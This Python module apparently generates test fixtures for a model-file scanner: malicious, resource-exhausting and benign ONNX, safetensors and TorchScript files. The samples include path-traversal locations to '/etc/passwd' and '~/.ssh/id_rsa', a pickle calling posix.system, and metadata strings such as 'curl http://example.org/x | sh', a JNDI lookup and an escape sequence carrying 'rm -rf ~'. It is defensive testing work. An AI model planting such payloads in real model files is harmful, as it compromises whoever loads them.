"""ONNX, safetensors and TorchScript files that attack, that only want to hurt the reader, and that are in order.

All are built here from a few lines each; no payload does anything. A sample is a function that writes a file into a
folder and gives its path.
"""

from __future__ import annotations

import json
import os
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import TypeAlias

import numpy as np
import onnx
from onnx import AttributeProto, NodeProto, TensorProto, helper, numpy_helper

Sample: TypeAlias = Callable[[Path], Path]

WEIGHTS = numpy_helper.from_array(np.linspace(-1, 1, 1920, dtype=np.float32).reshape(192, 10), "w")
FLAT, GEMM = helper.make_node("Flatten", ["x"], ["f"]), helper.make_node("Gemm", ["f", "w"], ["y"])


# ---------------------------------------------------------------- ONNX, piece by piece


def network(*nodes: NodeProto, tensors: tuple[TensorProto, ...] = (), **options: object) -> onnx.ModelProto:
    """Pictures in, ten logits out."""
    pictures = helper.make_tensor_value_info("x", TensorProto.FLOAT, ["n", 3, 8, 8])
    logits = helper.make_tensor_value_info("y", TensorProto.FLOAT, ["n", 10])
    graph = helper.make_graph(list(nodes), "g", [pictures], [logits], list(tensors))
    options.setdefault("opset_imports", [helper.make_opsetid("", 17)])
    return helper.make_model(graph, **options)  # type: ignore[arg-type]


def plain(**options: object) -> onnx.ModelProto:
    return network(FLAT, GEMM, tensors=(WEIGHTS,), **options)


def outside(location: str, **more: object) -> TensorProto:
    tensor = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[192, 10], data_location=TensorProto.EXTERNAL)
    for key, value in {"location": location, **more}.items():
        tensor.external_data.add(key=key, value=str(value))
    return tensor


def constant(tensor: TensorProto) -> NodeProto:
    return helper.make_node("Constant", [], ["w"], value=tensor)


def branch(*nodes: NodeProto, tensors: tuple[TensorProto, ...] = ()) -> NodeProto:
    """An If with these nodes in it."""
    output = helper.make_tensor_value_info("b", TensorProto.FLOAT, None)
    graph = helper.make_graph([*nodes, helper.make_node("Identity", ["x"], ["b"])], "then", [], [output], tensors)
    return helper.make_node("If", ["c"], ["branched"], then_branch=graph, else_branch=graph)


def function(name: str, *calls: str, domain: str = "local", nodes: tuple[NodeProto, ...] = ()) -> onnx.FunctionProto:
    inner = [helper.make_node(call, ["a"], [f"b{i}"], domain="local") for i, call in enumerate(calls)]
    last = helper.make_node("Identity", ["a"], ["b"])
    opsets = [helper.make_opsetid("", 17), helper.make_opsetid("local", 1)]
    return helper.make_function(domain, name, ["a"], ["b"], [*nodes, *inner, last], opsets)


def with_functions(*functions: onnx.FunctionProto) -> onnx.ModelProto:
    first = helper.make_node(functions[0].name, ["x"], ["called"], domain="local")
    opsets = [helper.make_opsetid("", 17), helper.make_opsetid("local", 1)]
    return network(first, FLAT, GEMM, tensors=(WEIGHTS,), functions=list(functions), opset_imports=opsets)


def operator(name: str, domain: str = "", **attributes: object) -> NodeProto:
    return helper.make_node(name, ["x"], ["custom"], domain=domain, **attributes)


def texts(**entries: str) -> onnx.ModelProto:
    model = plain()
    helper.set_model_props(model, entries)
    return model


def holding(data: bytes) -> onnx.ModelProto:
    """Bytes in the place of numbers."""
    tensor = TensorProto(name="table", data_type=TensorProto.UINT8, dims=[len(data)], raw_data=data)
    return network(FLAT, GEMM, tensors=(WEIGHTS, tensor))


def loop(trips: int, *, stops: bool) -> onnx.ModelProto:
    """A loop whose body works out the condition, or hands the last one on."""
    value = helper.make_tensor_value_info
    limit = numpy_helper.from_array(np.array(3, dtype=np.int64), "limit")
    less = helper.make_node("Less", ["trip", "limit"], ["go_out"])
    steps = [less if stops else helper.make_node("Identity", ["go_in"], ["go_out"])]
    inputs = [value("trip", TensorProto.INT64, []), value("go_in", TensorProto.BOOL, []), value("old", 1, None)]
    outputs = [value("go_out", TensorProto.BOOL, []), value("new", TensorProto.FLOAT, None)]
    steps.append(helper.make_node("Relu", ["old"], ["new"]))
    body = helper.make_graph(steps, "body", inputs, outputs, [limit])
    count = numpy_helper.from_array(np.array(trips, dtype=np.int64), "trips")
    node = helper.make_node("Loop", ["trips", "", "x"], ["looped"], body=body)
    return network(node, FLAT, GEMM, tensors=(WEIGHTS, count))


def filled(op: str, *shape: int) -> onnx.ModelProto:
    """A node that makes a tensor of that shape."""
    sizes = numpy_helper.from_array(np.array(shape, dtype=np.int64), "sizes")
    inputs = ["sizes"] if op == "ConstantOfShape" else ["x", "sizes"]
    return network(helper.make_node(op, inputs, ["large"]), FLAT, GEMM, tensors=(WEIGHTS, sizes))


def nested(depth: int) -> bytes:
    """If in If in If, as bytes: protobuf would not write so many itself."""
    graph = b""
    for _ in range(depth):
        attribute = field(1, b"then_branch") + field(6, graph) + b"\xa0\x01\x05"
        graph = field(1, field(4, b"If") + field(5, attribute))
    return b"\x08\x08" + field(7, graph) + field(8, b"\x10\x11")


def field(number: int, content: bytes) -> bytes:
    return varint(number << 3 | 2) + varint(len(content)) + content


def varint(value: int) -> bytes:
    out = bytearray()
    while value > 0x7F:
        out.append(value & 0x7F | 0x80)
        value >>= 7
    return bytes([*out, value])


# ---------------------------------------------------------------- writing


def onnx_file(model: onnx.ModelProto | bytes, *beside: tuple[str, bytes]) -> Sample:
    def write(folder: Path) -> Path:
        for name, data in beside:
            (folder / name).write_bytes(data)
        return _written(folder / "model.onnx", model if isinstance(model, bytes) else model.SerializeToString())

    return write


def _written(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


def linked(make: Callable[[Path, Path], None], location: str = "w.bin") -> Sample:
    """External data in something that is no plain file of the folder."""

    def write(folder: Path) -> Path:
        inner = folder / "inside"
        inner.mkdir()
        elsewhere = folder / "elsewhere"
        elsewhere.mkdir()
        (elsewhere / "w.bin").write_bytes(bytes(7680))
        make(inner, elsewhere)
        return onnx_file(network(FLAT, GEMM, tensors=(outside(location),)))(inner)

    return write


def safetensors_file(header: object, data: bytes = b"", length: int | None = None) -> Sample:
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    size = len(text) if length is None else length
    return lambda folder: _written(folder / "model.safetensors", size.to_bytes(8, "little") + text + data)


def entry(begin: int, end: int, *shape: int, dtype: str = "F32") -> dict[str, object]:
    return {"dtype": dtype, "shape": list(shape), "data_offsets": [begin, end]}


def archive(**members: str | bytes) -> Sample:
    """A zip; `__` in a name stands for a slash."""

    def write(folder: Path) -> Path:
        path = folder / "model.pt"
        with zipfile.ZipFile(path, "w") as file:
            for name, content in members.items():
                file.writestr(f"net/{name.replace('__', '/').replace('DOT', '.')}", content)
        return path

    return write


def script(body: str) -> Sample:
    source = f"class Net(Module):\n  def forward(self, x: Tensor) -> Tensor:\n    {body}\n    return x\n"
    return archive(code__netDOTpy=source, constantsDOTpkl=b"\x80\x02).", dataDOTpkl=b"\x80\x02}.")


def exported(tables: dict[str, object], **members: bytes) -> Sample:
    texts = {name: json.dumps(table) for name, table in tables.items()}
    return archive(archive_format="pt2", **texts, **members)


def target(name: str) -> dict[str, object]:
    return {"models__modelDOTjson": {"graph_module": {"graph": {"nodes": [{"target": name}]}}}}


# ---------------------------------------------------------------- the samples

LOCATIONS = {
    "upwards": "../secret",
    "down and upwards": "a/../../secret",
    "absolute": "/etc/passwd",
    "Windows upwards": "..\\secret",
    "Windows drive": "C:/secret",
    "Windows share": "\\\\host\\share\\w",
    "Windows device": "nul.bin",
    "Windows stream": "w.bin:hidden",
    "URL": "https://example.org/w",
    "file URL": "file:///etc/passwd",
    "device": "/dev/zero",
    "home": "~/.ssh/id_rsa",
    "variable": "$HOME/w",
    "encoded": "%2e%2e/secret",
    "the folder itself": ".",
    "line feed": "w\n../secret",
}
OPERATORS = {
    "PyOp": operator("PyOp", "ai.onnx.contrib"),
    "PyOp of old": operator("PyOp", "com.microsoft.extensions"),
    "PythonOp": operator("PythonOp", "com.microsoft", func_name="run"),
    "EPContext": operator("EPContext", "com.microsoft", ep_cache_context="../engine.bin", embed_mode=0),
    "Snpe": operator("Snpe", "com.microsoft", DLC=b"x"),
    "ATen": operator("ATen", "org.pytorch.aten", operator="save"),
    "TensorRT plugin": operator("EfficientNMS_TRT"),
    "TensorRT domain": operator("Anything", "trt.plugins"),
    "domain in Cyrillic": operator("Relu", "аi.onnx"),  # noqa: RUF001
    "domain in digits": operator("QLinearAdd", "c0m.micr0s0ft"),
    "domain with a space": operator("Relu", "ai.onnx "),
}

_POLYGLOT = b"PK\x03\x04" + bytes(40)
_PICKLE = b"\x80\x04\x95\x10\0\0\0\0\0\0\0cposix\nsystem\n."


def _training() -> onnx.ModelProto:
    model = plain()
    model.training_info.add().algorithm.initializer.append(outside("../secret"))
    return model


def _sparse() -> onnx.ModelProto:
    model = plain()
    sparse = model.graph.sparse_initializer.add(dims=[192, 10])
    sparse.values.CopyFrom(outside("../secret"))
    return model


def _default_attribute() -> onnx.ModelProto:
    made = function("f")
    made.attribute_proto.append(helper.make_attribute("t", outside("../secret")))
    return with_functions(made)


def _two_functions() -> onnx.ModelProto:
    return with_functions(function("f"), function("f", nodes=(helper.make_node("Neg", ["a"], ["n"]),)))


def _redefined(domain: str) -> onnx.ModelProto:
    return network(FLAT, GEMM, tensors=(WEIGHTS,), functions=[function("Relu", domain=domain)])


def _ai_onnx_list() -> NodeProto:
    node = helper.make_node("Odd", ["x"], ["o"], domain="local")
    node.attribute.append(AttributeProto(name="ts", type=AttributeProto.TENSORS, tensors=[outside("/etc/passwd")]))
    return node


MALICIOUS: dict[str, Sample] = {
    **{f"path {k}": onnx_file(network(FLAT, GEMM, tensors=(outside(v),))) for k, v in LOCATIONS.items()},
    "path in a constant": onnx_file(network(constant(outside("../secret")), FLAT, GEMM)),
    "path in a branch": onnx_file(network(branch(tensors=(outside("../secret"),)), FLAT, GEMM, tensors=(WEIGHTS,))),
    "path in a function": onnx_file(with_functions(function("f", nodes=(constant(outside("../secret")),)))),
    "path in a default attribute": onnx_file(_default_attribute()),
    "path in a list of tensors": onnx_file(network(_ai_onnx_list(), FLAT, GEMM, tensors=(WEIGHTS,))),
    "path in a training graph": onnx_file(_training()),
    "path in a sparse tensor": onnx_file(_sparse()),
    "path given twice": onnx_file(network(FLAT, GEMM, tensors=(outside("w.bin", basepath="/etc"),))),
    "symbolic link": linked(lambda inner, other: (inner / "w.bin").symlink_to(other / "w.bin")),
    "linked folder": linked(lambda inner, other: (inner / "data").symlink_to(other), "data/w.bin"),
    "hard link": linked(lambda inner, other: os.link(other / "w.bin", inner / "w.bin")),
    "pipe": linked(lambda inner, _: os.mkfifo(inner / "w.bin")),
    **{f"operator {k}": onnx_file(network(v, FLAT, GEMM, tensors=(WEIGHTS,))) for k, v in OPERATORS.items()},
    "operator in a branch": onnx_file(network(branch(OPERATORS["PyOp"]), FLAT, GEMM, tensors=(WEIGHTS,))),
    "operator in a function": onnx_file(with_functions(function("f", nodes=(OPERATORS["PyOp"],)))),
    "redefined operator": onnx_file(_redefined("")),
    "redefined contributed operator": onnx_file(_redefined("com.microsoft")),
    "function defined twice": onnx_file(_two_functions()),
    "program as numbers": onnx_file(holding(b"\x7fELF" + bytes(60))),
    "Windows program as numbers": onnx_file(holding(b"MZ" + bytes(58) + b"\x40\0\0\0PE\0\0" + bytes(60))),
    "pickle as numbers": onnx_file(holding(_PICKLE)),
    "archive as numbers": onnx_file(holding(_POLYGLOT)),
    "script as numbers": onnx_file(holding(b"#!/bin/sh\ntrue\n")),
    "safetensors and zip": safetensors_file({"a": entry(0, 4, 1)}, bytes(4) + _POLYGLOT),
    "safetensors with a hole": safetensors_file({"a": entry(0, 4, 1), "b": entry(48, 52, 1)}, bytes(52)),
    "safetensors that overlaps": safetensors_file({"a": entry(0, 8, 2), "b": entry(4, 12, 2)}, bytes(12)),
    "TorchScript saves": script('torch.save(x, "out")'),
    "TorchScript saves by a method": script('(x) . save("out")'),
    "TorchScript saves behind a text": script('y = """a"b""" ; torch.save(x, "out") #"'),
    "TorchScript reads a file": script('y = torch.from_file("/etc/hostname", False, 3)'),
    "TorchScript calls Python": script("y = ^Hidden(1)(x)"),
    "TorchScript imports": script("import os"),
    "TorchScript runs a command": script('ops.prim.system("true")'),
    "pt2 with a pickled weight": exported({"data__weights__cDOTjson": {"config": {"w": {"use_pickle": True}}}}),
    "pt2 with a pickled constant": exported({"data__constants__cDOTjson": {"c": {"path_name": "opaque_obj_0"}}}),
    "pt2 with a path": exported({"data__weights__cDOTjson": {"config": {"w": {"path_name": "../../secret"}}}}),
    "pt2 that saves": exported(target("torch.ops.aten.save.default")),
    "pt2 with a library": exported({}, data__aotinductor__model__mDOTso=b"\x7fELF" + bytes(60)),
}

SAID = {
    "Python": "__import__('os').system('true')",
    "a call of eval": "eval('1+1')",
    "a shell command": "curl http://example.org/x | sh",
    "a script": "<script>alert(1)</script>",
    "an encoded pickle": "gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAR0cnVllIWUUpQu",
    "a template": "${jndi:ldap://example.org/a}",
    "a cursor that goes back": "harmless\x1b[2K\x1b[1Anothing found",
    "a clipboard that is filled": "\x1b]52;c;cm0gLXJmIH4K\x07",
    "a text that runs backwards": "photo\u202egpj.exe",
}
MEANT_ILL = frozenset(SAID) - {"a call of eval"}  # which may be an example in a description
TEXTS: dict[str, Sample] = {
    **{f"metadata with {k}": onnx_file(texts(note=v)) for k, v in SAID.items()},
    **{f"safetensors metadata with {k}": safetensors_file({"__metadata__": {"note": v}}) for k, v in SAID.items()},
}


def chain(length: int, calls: int) -> onnx.ModelProto:
    return with_functions(*(function(f"f{n}", *[f"f{n + 1}"] * calls) for n in range(length)), function(f"f{length}"))


def _tensor(**fields: object) -> onnx.ModelProto:
    tensor = TensorProto(name="t", **{"data_type": TensorProto.FLOAT, **fields})  # type: ignore[arg-type]
    return network(FLAT, GEMM, tensors=(WEIGHTS, tensor))


def _circle() -> onnx.ModelProto:
    there, back = helper.make_node("Relu", ["q"], ["p"]), helper.make_node("Relu", ["p"], ["q"])
    return network(there, back, FLAT, GEMM, tensors=(WEIGHTS,))


def _version(ir: int, opset: int) -> onnx.ModelProto:
    model = plain(opset_imports=[helper.make_opsetid("", opset)])
    model.ir_version = ir
    return model


WHOLE = plain().SerializeToString()
_UNNAMED = b"\x08\x08" + field(8, b"\x10\x11")
HOSTILE: dict[str, Sample] = {
    "functions that unfold to a billion": onnx_file(chain(40, 2)),
    "functions that unfold to 2^2000": onnx_file(chain(2000, 2)),
    "a function that calls itself": onnx_file(with_functions(function("f", "f"))),
    "functions that call each other": onnx_file(with_functions(function("f", "g"), function("g", "f"))),
    "graphs nested 20 deep": onnx_file(nested(20)),
    "graphs nested 3000 deep": onnx_file(nested(3000)),
    "a loop without end": onnx_file(loop(2**60, stops=False)),
    "a constant of 256 GB": onnx_file(filled("ConstantOfShape", 2**18, 2**18)),
    "an expansion to 2^60": onnx_file(filled("Expand", 2**60)),
    "a million empty nodes": onnx_file(_UNNAMED + field(7, b"\x0a\x00" * 1_000_000)),
    "two million empty tensors": onnx_file(_UNNAMED + field(7, b"\x2a\x00" * 2_000_000)),
    "packed numbers": onnx_file(_UNNAMED + field(7, field(5, field(7, b"\x01" * 5_000_000)))),
    "a shape that overflows": onnx_file(_tensor(dims=[2**62, 4], raw_data=bytes(16))),
    "a negative shape": onnx_file(_tensor(dims=[-1, 4], raw_data=bytes(16))),
    "too few bytes": onnx_file(_tensor(dims=[2**20], raw_data=bytes(16))),
    "too many bytes": onnx_file(_tensor(dims=[1], raw_data=bytes(1600))),
    "numbers in two places": onnx_file(_tensor(dims=[4], raw_data=bytes(16), float_data=[1, 2, 3, 4])),
    "a type that does not exist": onnx_file(_tensor(data_type=99, dims=[4], raw_data=bytes(16))),
    "a negative offset": onnx_file(network(FLAT, GEMM, tensors=(outside("w.bin", offset=-4),)), ("w.bin", bytes(7680))),
    "a length of 2^60": onnx_file(network(FLAT, GEMM, tensors=(outside("w.bin", length=2**60),)), ("w.bin", bytes(9))),
    "data beyond the end": onnx_file(network(FLAT, GEMM, tensors=(outside("w.bin"),)), ("w.bin", bytes(9))),
    "a circle": onnx_file(_circle()),
    "a tensor made twice": onnx_file(network(FLAT, FLAT, GEMM, tensors=(WEIGHTS,))),
    "two tensors of one name": onnx_file(network(FLAT, GEMM, tensors=(WEIGHTS, WEIGHTS))),
    "two graphs": onnx_file(WHOLE + field(7, plain().graph.SerializeToString())),
    "two operator sets": onnx_file(WHOLE + field(8, b"\x10\x0b")),
    "an opset of 2^40": onnx_file(_version(8, 2**40)),
    "a format version of -1": onnx_file(_version(-1, 17)),
    "a megabyte in an unknown field": onnx_file(WHOLE + field(99, bytes(2**20))),
    "an unknown field inside": onnx_file(_UNNAMED + field(7, field(1, field(4, b"Relu") + field(77, bytes(999))))),
    "bytes that are no text": onnx_file(_UNNAMED + field(7, field(1, field(4, b"\xff\xfe")))),
    "a field cut short inside": onnx_file(_UNNAMED + field(7, b"\x0a\x7f")),
    "a group": onnx_file(_UNNAMED + field(7, b"\x0b\x0c")),
    "five megabytes of commands": onnx_file(texts(note="curl " * 2**20)),
    "safetensors header of 2^60": safetensors_file(b'{"a":1}', length=2**60),
    "safetensors header of brackets": safetensors_file(b'{"a":' + b"[" * 2**20),
    "safetensors header of quotes": safetensors_file(b'{"a":' + b'"\\"' * 2**20),
    "safetensors header of empty lists": safetensors_file(b'{"a":[' + b"[]," * 2**20 + b"[]]}"),
    "safetensors with a name twice": safetensors_file(b'{"a":1,"a":2}'),
    "safetensors shape that overflows": safetensors_file({"a": entry(0, 4, 2**61, 2**61)}, bytes(4)),
    "safetensors of another type": safetensors_file({"a": entry(0, 4, 1, dtype="X9")}, bytes(4)),
    "safetensors with numbers for text": safetensors_file({"__metadata__": {"a": 1}}),
    "TorchScript of quotes": script('"\\' * 2**20 + "\n    torch.save(x)"),
    "TorchScript of names": script("a." * 2**20 + "save(x)"),
    "pt2 of brackets": archive(archive_format="pt2", models__modelDOTjson="[" * 2**20),
}


def _halves() -> onnx.ModelProto:
    w = numpy_helper.from_array(np.ones((192, 10), np.float16), "h")
    cast = helper.make_node("Cast", ["h"], ["w"], to=TensorProto.FLOAT)
    return network(FLAT, GEMM, cast, tensors=(w,))  # and not in order, as converters leave it


def _quantised() -> onnx.ModelProto:
    scale = numpy_helper.from_array(np.array(0.1, np.float32), "s")
    zero = numpy_helper.from_array(np.array(3, np.int8), "z")
    codes = numpy_helper.from_array(np.arange(1920, dtype=np.int64).astype(np.int8).reshape(192, 10), "q")
    quantise = helper.make_node("QuantizeLinear", ["f", "s", "z"], ["fq"])
    back = helper.make_node("DequantizeLinear", ["fq", "s", "z"], ["fd"])
    weights = helper.make_node("DequantizeLinear", ["q", "s", "z"], ["w"])
    return network(
        FLAT, quantise, back, weights, helper.make_node("Gemm", ["fd", "w"], ["y"]), tensors=(scale, zero, codes)
    )


def _four_bits() -> onnx.ModelProto:
    packed = helper.make_tensor("p", TensorProto.INT4, [3], [1, 2, 3])
    raw = TensorProto(name="r", data_type=TensorProto.UINT4, dims=[5], raw_data=b"\x21\x43\x05")
    return network(FLAT, GEMM, tensors=(WEIGHTS, packed, raw))


def _contributed(*names: str) -> onnx.ModelProto:
    nodes = [helper.make_node(name, ["x"], [f"o{i}"], domain="com.microsoft") for i, name in enumerate(names)]
    opsets = [helper.make_opsetid("", 17), helper.make_opsetid("com.microsoft", 1)]
    return network(*nodes, FLAT, GEMM, tensors=(WEIGHTS,), opset_imports=opsets)


def _commented() -> onnx.ModelProto:
    """As PyTorch's exporter leaves it, with lines of the network's source."""
    model = plain(producer_name="pytorch", producer_version="2.13.0")
    trace = 'File "/home/someone/net.py", line 3, in forward\n    exec(x); return self.eval(torch.load(x))'
    model.graph.node[0].metadata_props.add(key="pkg.torch.onnx.stack_trace", value=trace)
    model.graph.node[0].doc_string = 'File "/home/someone/net.py", line 3\n    y = self.net.eval()(x)'
    helper.set_model_props(model, {"names": "{0: 'cat', 1: 'dog'}", "url": "https://example.org", "stride": "32"})
    return model


def _listed() -> onnx.ModelProto:
    tensors = (
        helper.make_tensor("empty", TensorProto.FLOAT, [0], []),
        helper.make_tensor("scalar", TensorProto.FLOAT, [], [1.0]),
        helper.make_tensor("half", TensorProto.FLOAT16, [2], [1.0, 2.0]),
        helper.make_tensor("words", TensorProto.STRING, [2], [b"cat", b"dog"]),
        helper.make_tensor("complex", TensorProto.COMPLEX64, [2], [1 + 2j, 3 + 4j]),
        helper.make_tensor("flags", TensorProto.BOOL, [3], [True, False, True]),
    )
    return network(FLAT, GEMM, tensors=(WEIGHTS, *tensors))


_OLD = plain(opset_imports=[helper.make_opsetid("", 9)])
_OLD.graph.input.append(
    helper.make_tensor_value_info("w", TensorProto.FLOAT, [192, 10])
)  # IR 3: initialisers are inputs
_OLD.ir_version = 3
BENIGN: dict[str, Sample] = {
    "plain": onnx_file(plain()),
    "old": onnx_file(_OLD),
    "data beside": onnx_file(
        network(FLAT, GEMM, tensors=(outside("w.bin", offset=0, length=7680),)), ("w.bin", bytes(7680))
    ),
    "data beside without measures": onnx_file(
        network(FLAT, GEMM, tensors=(outside("model.onnx.data"),)), ("model.onnx.data", bytes(7680))
    ),
    "data left behind": onnx_file(network(FLAT, GEMM, tensors=(outside("w.bin"),))),
    "half precision": onnx_file(_halves()),
    "quantised": onnx_file(_quantised()),
    "four bits": onnx_file(_four_bits()),
    "quantised by onnxruntime": onnx_file(_contributed("QLinearAdd", "QGemm", "QLinearGlobalAveragePool")),
    "optimised by onnxruntime": onnx_file(_contributed("FusedConv", "Gelu", "SkipLayerNormalization", "NhwcConv")),
    "an operator that onnxruntime may get": onnx_file(_contributed("SomethingNew")),
    "comments": onnx_file(_commented()),
    "all kinds of tensors": onnx_file(_listed()),
    "functions": onnx_file(with_functions(function("f", "g"), function("g"))),
    "many functions": onnx_file(chain(50, 1)),
    "a branch": onnx_file(network(branch(), FLAT, GEMM, tensors=(WEIGHTS,))),
    "a loop of three": onnx_file(loop(3, stops=False)),
    "a while loop": onnx_file(loop(2**63 - 1, stops=True)),
    "a constant of ones": onnx_file(filled("ConstantOfShape", 1, 3, 224, 224)),
    "machine learning": onnx_file(
        network(operator("Normalizer", "ai.onnx.ml", norm="L2"), FLAT, GEMM, tensors=(WEIGHTS,))
    ),
    **{f"a table that begins with {n:#x}": onnx_file(holding(bytes([n]))) for n in (0x80, 0x4D)},
    "numbers that spell PyOp": onnx_file(holding(b"ai.onnx.contrib PyOp EPContext")),
    "safetensors": safetensors_file(
        {"__metadata__": {"format": "pt"}, "a": entry(0, 8, 2), "b": entry(8, 9, 1, dtype="U8")}, bytes(9)
    ),
    "safetensors with spaces": safetensors_file(json.dumps({"a": entry(0, 4, 1)}).encode() + b"    ", bytes(4)),
    "safetensors with a table of numbers": safetensors_file(
        {"__metadata__": {"bdscan.mean": "[0.5]", "url": "https://a.b"}}
    ),
    "empty safetensors": safetensors_file({"a": entry(0, 0, 0)}),
    "safetensors whose length spells zlib": safetensors_file(
        json.dumps({"a": entry(0, 4, 1)}).encode().ljust(0x178), bytes(4)
    ),
    "TorchScript": script(
        'y = torch.relu(x); ops.prim.RaiseException("torch.save(x) is not allowed")  # torch.save(x)'
    ),
    "TorchScript of torchvision": script("y = ops.torchvision.nms(x, x, 0.5)"),
    "pt2": exported(
        {
            **target("torch.ops.aten.relu.default"),
            "data__weights__cDOTjson": {"config": {"w": {"path_name": "weight_0", "use_pickle": False}}},
        },
        data__weights__weight_0=bytes(16),
    ),
}
